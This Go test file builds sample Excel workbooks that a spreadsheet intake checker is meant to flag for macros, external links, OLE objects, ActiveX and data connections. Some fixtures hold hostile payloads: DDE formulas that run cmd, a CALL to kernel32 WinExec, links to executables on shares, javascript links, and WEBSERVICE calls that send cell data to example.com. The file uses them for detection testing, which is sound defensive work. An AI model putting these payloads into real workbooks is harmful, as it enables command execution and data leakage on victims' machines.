package intaketest

import (
	"bytes"
	"slices"
	"unicode/utf16"

	"github.com/jetsheet/jetsheet/renderer/xlsx/intake"
)

// outward are files that run something, or lead out of themselves.
func outward() []File {
	return slices.Concat(macros(), externalLinks(), objects(), calls(), connections())
}

// inB3 is where formula puts what it is given.
const inB3 = `cell B3`

func formula(name string, cause intake.Cause, text, f string) File {
	return changed(name, cause, text, func(p parts) parts { return p.replace(sheetPart, "SUM(B2:B2)", f) })
}

func related(name string, cause intake.Cause, text, kind, target string) File {
	return changed(name, cause, text, func(p parts) parts {
		return p.with(sheetRels, `<Relationships `+relsSpace+`><Relationship Id="rId1" Type="`+relType+kind+`" Target="`+target+`" TargetMode="External"/></Relationships>`)
	})
}

func part(name string, cause intake.Cause, part, content string) File {
	return added(name, cause, part, func() []entry { return []entry{pack(part, content)} })
}

func definedName(name string, cause intake.Cause, attributes, f string) File {
	return changed(name, cause, `name "hidden"`, func(p parts) parts {
		return p.replace(bookPart, "</definedNames>", `<definedName name="hidden" `+attributes+`>`+f+`</definedName></definedNames>`)
	})
}

// macros are files with programs of their own.
func macros() []File {
	return []File{
		part("macros", intake.CauseMacros, "xl/vbaProject.bin", "\xD0\xCF\x11\xE0"),
		changed("a workbook for macros without any", intake.CauseMacros, bookPart, func(p parts) parts {
			return p.replace(typesPart, mainType+"sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
		}),
		changed("macros under another name", intake.CauseMacros, "xl/theme/a.xml", func(p parts) parts {
			return p.with("xl/theme/a.xml", "<a/>").replace(bookRels, "</Relationships>",
				`<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme/a.xml"/></Relationships>`)
		}),
		part("a macro sheet of Excel 4", intake.CauseMacroSheet, "xl/macrosheets/sheet1.xml", "<a/>"),
		changed("a macro sheet under another name", intake.CauseMacroSheet, sheetPart, func(p parts) parts {
			return p.replace(typesPart, mainType+"worksheet+xml", "application/vnd.ms-excel.macrosheet+xml")
		}),
		part("a dialog sheet", intake.CauseMacroSheet, "xl/dialogsheets/sheet1.xml", "<a/>"),
		definedName("a name that is a macro", intake.CauseMacroSheet, `xlm="1"`, "点検表!$A$1"),
		changed("a name that Excel runs", intake.CauseMacroSheet, "Auto_Open", func(p parts) parts {
			return p.replace(bookPart, "</definedNames>", `<definedName name="_xlnm.Auto_Open">点検表!$A$1</definedName></definedNames>`)
		}),
	}
}

// externalLinks are files that lead to other files and servers.
func externalLinks() []File {
	return []File{
		part("a link to another workbook", intake.CauseExternalLink, "xl/externalLinks/externalLink1.xml", "<a/>"),
		formula("a cell from another workbook", intake.CauseExternalLink, inB3, "[1]Sheet1!A1+1"),
		formula("a cell from a quoted workbook", intake.CauseExternalLink, inB3, `SUM('C:\[prices.xlsx]Sheet 1'!A1)`),
		definedName("a name from another workbook", intake.CauseExternalLink, "", "[1]Sheet1!$A$1"),
		changed("a rule from another workbook", intake.CauseExternalLink, "点検表", func(p parts) parts {
			return p.replace(sheetPart, "</worksheet>", `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]Sheet1!A1=1</formula></cfRule></conditionalFormatting></worksheet>`)
		}),
		changed("a chart from another workbook", intake.CauseExternalLink, "xl/charts/chart1.xml", func(p parts) parts {
			return p.with("xl/charts/chart1.xml", `<c:chartSpace xmlns:c="c"><c:f>[1]Sheet1!$A$1:$A$3</c:f></c:chartSpace>`)
		}),
		related("a link to a file", intake.CauseExternalLink, "file:///", "hyperlink", "file:///C:/Windows/system32/cmd.exe"),
		related("a link to a share", intake.CauseExternalLink, "点検表", "hyperlink", `\\server\share\a.exe`),
		related("a link that is a script", intake.CauseExternalLink, "javascript", "hyperlink", "javascript:alert(1)"),
		related("a picture from elsewhere", intake.CauseExternalLink, "http://example.com/a.png", "image", "http://example.com/a.png"),
		part("pictures of the web in cells", intake.CauseExternalLink, "xl/richData/rdRichValueWebImage.xml", "<webImagesSrd/>"),
		related("a template from elsewhere", intake.CauseExternalLink, "http://example.com/a", "attachedTemplate", "http://example.com/a"),
		part("a picture from elsewhere in VML", intake.CauseExternalLink, "xl/drawings/vmlDrawing1.vml", `<xml xmlns:v="v"><v:shape><v:imagedata src="http://example.com/a.png"/></v:shape></xml>`),
		part("a link to a share in VML", intake.CauseExternalLink, "xl/drawings/vmlDrawing1.vml", `<xml xmlns:v="v"><v:shape href="\\server\share\a.exe"/></xml>`),
		changed("a sheet that is published on a share", intake.CauseExternalLink, "点検表", func(p parts) parts {
			return p.replace(sheetPart, "</worksheet>", `<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\server\share\a.htm" autoRepublish="1"/></webPublishItems></worksheet>`)
		}),
		changed("a workbook that is published", intake.CauseExternalLink, bookPart, func(p parts) parts {
			return p.replace(bookPart, "</workbook>", `<webPublishObjects count="1"><webPublishObject id="1" divId="a" destinationFile="http://example.com/a.htm"/></webPublishObjects></workbook>`)
		}),
	}
}

// objects are files with documents of other programs in them.
func objects() []File {
	return []File{
		related("a linked object", intake.CauseOLE, "linked", "oleObject", "file:///C:/a.docx"),
		part("an embedded object", intake.CauseOLE, "xl/embeddings/oleObject1.bin", "x"),
		part("an embedded workbook", intake.CauseOLE, "xl/embeddings/Microsoft_Excel_Sheet1.xlsx", "x"),
		added("an object as a picture", intake.CauseOLE, "xl/media/image2.png", func() []entry { return []entry{store("xl/media/image2.png", compound("Ole"))} }),
		changed("a sheet with an object", intake.CauseOLE, "点検表", func(p parts) parts {
			return p.replace(sheetPart, "</worksheet>", `<oleObjects><oleObject progId="Word.Document.12" shapeId="1" r:id="rId1"/></oleObjects></worksheet>`)
		}),
	}
}

// calls are files that start programs or ask servers.
func calls() []File {
	return []File{
		part("an ActiveX control", intake.CauseActiveX, "xl/activeX/activeX1.xml", "<a/>"),
		formula("DDE", intake.CauseDDE, inB3, `cmd|'/C calc.exe'!A0`),
		formula("DDE in quotes", intake.CauseDDE, inB3, `'cmd|/C calc.exe'!A0`),
		definedName("a name with DDE", intake.CauseDDE, "", `MSEXCEL|'\..\..\Windows\System32\cmd.exe'!''`),
		formula("a function that asks the web", intake.CauseExternalCall, "WEBSERVICE", `_xlfn.WEBSERVICE("http://example.com/"&amp;A1)`),
		formula("a function that loads a library", intake.CauseExternalCall, "CALL", `1+CALL("kernel32","WinExec","JCJ","calc",1)`),
		formula("a function that asks a server", intake.CauseExternalCall, "RTD", `rtd("prog",,"a")`),
		part("what a server was asked", intake.CauseExternalCall, "xl/volatileDependencies.xml", `<volTypes><volType type="realTimeData"><main first="prog"/></volType></volTypes>`),
		changed("what a server was asked, under another name", intake.CauseExternalCall, "xl/theme/a.xml", func(p parts) parts {
			return p.with("xl/theme/a.xml", "<a/>").replace(bookRels, "</Relationships>", `<Relationship Id="rId9" Type="`+relType+`volatileDependencies" Target="theme/a.xml"/></Relationships>`)
		}),
	}
}

// connections are files that are fed from elsewhere, or add to Excel.
func connections() []File {
	return []File{
		part("data connections", intake.CauseDataConnection, "xl/connections.xml", "<a/>"),
		part("a query's table", intake.CauseDataConnection, "xl/queryTables/queryTable1.xml", "<a/>"),
		part("a data model", intake.CauseDataConnection, "xl/model/item.data", "x"),
		part("a pivot table of a database", intake.CauseDataConnection, "xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>`),
		part("a map of XML that is read from a file", intake.CauseDataConnection, "xl/xmlMaps.xml", `<MapInfo><Map ID="1"><DataBinding FileBinding="true" ConnectionID="1" DataBindingLoadMode="1"/></Map></MapInfo>`),
		added("a query of Power Query", intake.CauseDataConnection, "customXml/item1.xml", func() []entry {
			var b bytes.Buffer
			put(&b, utf16.Encode([]rune("\uFEFF<?xml version=\"1.0\" encoding=\"utf-16\"?><DataMashup>AAAA</DataMashup>")))
			return []entry{store("customXml/item1.xml", b.Bytes())}
		}),
		part("an add-in", intake.CauseAddIn, "xl/webextensions/webextension1.xml", "<a/>"),
		part("buttons of its own", intake.CauseAddIn, "customUI/customUI14.xml", "<a/>"),
	}
}
